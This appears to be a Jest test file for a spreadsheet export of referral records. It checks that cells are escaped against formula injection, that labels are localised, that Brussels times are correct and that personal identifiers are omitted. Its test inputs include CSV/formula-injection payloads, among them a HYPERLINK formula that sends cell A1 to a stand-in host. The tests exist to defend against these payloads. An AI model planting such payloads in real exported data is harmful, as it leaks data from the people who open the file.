import { describe, expect, it } from '@jest/globals'
import fc from 'fast-check'
import { writeSpreadsheet } from '../../src/delivery/spreadsheet.js'
import { exportRow, exportSheet } from '../../src/presenters/exportSheet.js'
import { EXPORT_COLUMNS } from '../../src/presenters/exportWords.js'
import { textCell } from '../../src/presenters/sheet.js'
import { loadWords } from '../../src/presenters/words.js'
import { closed, rejected, scheduled, stopped, submitted } from '../builders/aReferral.js'
import { readSheet } from '../fakes/sheetReading.js'

const { fr, nl } = loadWords()
const ownerOf = () => 'Amélie Dubois'
const row = (...[referral, words = fr]: [Parameters<typeof exportRow>[0], typeof fr?]) => {
  const cells = exportRow(referral, { ownerOf }, words)
  return Object.fromEntries(EXPORT_COLUMNS.map((column, index) => [column, cells[index]]))
}
const text = (value: string) => ({ kind: 'text', text: value })

describe('a text in a spreadsheet', () => {
  it.each([
    ['=HYPERLINK("http://x.test";"Cliquez")'],
    ['+32 2 000 00 00'],
    ['-1+1'],
    ['@SUM(A1)'],
    ['\tTab'],
    ['\rReturn'],
    ['\nLine'],
    ['  =1+1'],
    ['\u00a0=1+1'],
    ['＝1+1'],
  ])('%j begins no formula', (typed) => {
    expect(textCell(typed)).toEqual(text(`'${typed}`))
  })

  it.each(['De Smet', "O'Neill", 'ACT-2026-000042-5', 'a=b', '1 + 1', "'t Hooft"])('%j stays as it is', (typed) => {
    expect(textCell(typed)).toEqual(text(typed))
  })

  it('whatever it is, never begins with a sign of a formula', () => {
    fc.assert(
      fc.property(fc.string(), (typed) => {
        const cell = textCell(typed)
        expect(cell?.kind === 'text' && /^\s*[=+\-@]/.test(cell.text)).toBe(false)
      }),
    )
  })
})

describe('a request in the file', () => {
  it('has its labels in the reader’s language', () => {
    expect(row(submitted())).toMatchObject({ status: text('Transmise'), owner: text('Amélie Dubois') })
    expect(row(submitted(), nl)).toMatchObject({ status: text('Verzonden'), need: text(nl.need.reference_adviser) })
  })

  it('has instants as Brussels’ clocks showed them, in summer and in winter', () => {
    const winter = { ...submitted(), submittedAt: '2026-12-01T08:30:00.000Z' }
    expect(row(submitted()).submittedAt).toEqual({ kind: 'moment', shown: new Date('2026-09-01T10:00:00Z') })
    expect(row(winter).submittedAt).toEqual({ kind: 'moment', shown: new Date('2026-12-01T09:30:00Z') })
  })

  it('tells absences, the day from which it may resume, and how it ended', () => {
    expect(row(stopped())).toMatchObject({
      unjustifiedAbsences: { kind: 'number', value: 2 },
      resumableFrom: { kind: 'day', shown: new Date('2027-04-10T00:00:00Z') },
    })
    expect(row(rejected())).toMatchObject({ rejectReason: text(fr.rejectReason.NOT_REGISTERED), outcome: undefined })
    expect(row(closed())).toMatchObject({ outcome: text(fr.outcome.PLAN_SIGNED), attended: { value: 1 } })
    expect(row(scheduled()).appointmentAt).toMatchObject({ kind: 'moment' })
  })

  it('has neither the national number nor what was typed about the person', () => {
    const told = JSON.stringify(exportRow(closed(), { ownerOf }, fr))
    expect(told).not.toMatch(/85073003328|aide-soignante|Bilan|1985/)
  })

  it('entered in error tells no person', () => {
    const told = row({ ...submitted(), status: 'entered_in_error' })
    expect([told.lastName, told.firstName, told.reference]).toEqual([undefined, undefined, text('ACT-2026-000042-5')])
  })
})

it('the written file, opened again, has texts as texts, dates as dates, and no formula', async () => {
  const evil = submitted({ person: { lastName: '=HYPERLINK("http://x.test?"&A1;"Ng")', firstName: '+1' } })
  const file = await writeSpreadsheet(exportSheet([exportRow(evil, { ownerOf }, fr)], fr))
  const [head = [], read = []] = readSheet(file)
  expect(head.map(({ value }) => value)).toEqual(EXPORT_COLUMNS.map((column) => fr.exportColumn[column]))
  expect(read.filter(({ isText }) => isText).map(({ value }) => value)).toEqual([
    'ACT-2026-000042-5',
    'Transmise',
    'Amélie Dubois',
    '\'=HYPERLINK("http://x.test?"&A1;"Ng")',
    "'+1",
    fr.need.reference_adviser,
    fr.axis[1],
    fr.category.ris,
  ])
  const numbers = read.flatMap(({ value, isText }) => (isText ? [] : [Math.round(Number(value) * 24 * 60)]))
  // Minutes since 30 December 1899: 1 September 2026, 10:00 in Brussels, twice; then nothing attended or missed.
  const shown = (Date.UTC(2026, 8, 1, 10) - Date.UTC(1899, 11, 30)) / 60_000
  expect(numbers).toEqual([shown, shown, 0, 0])
})
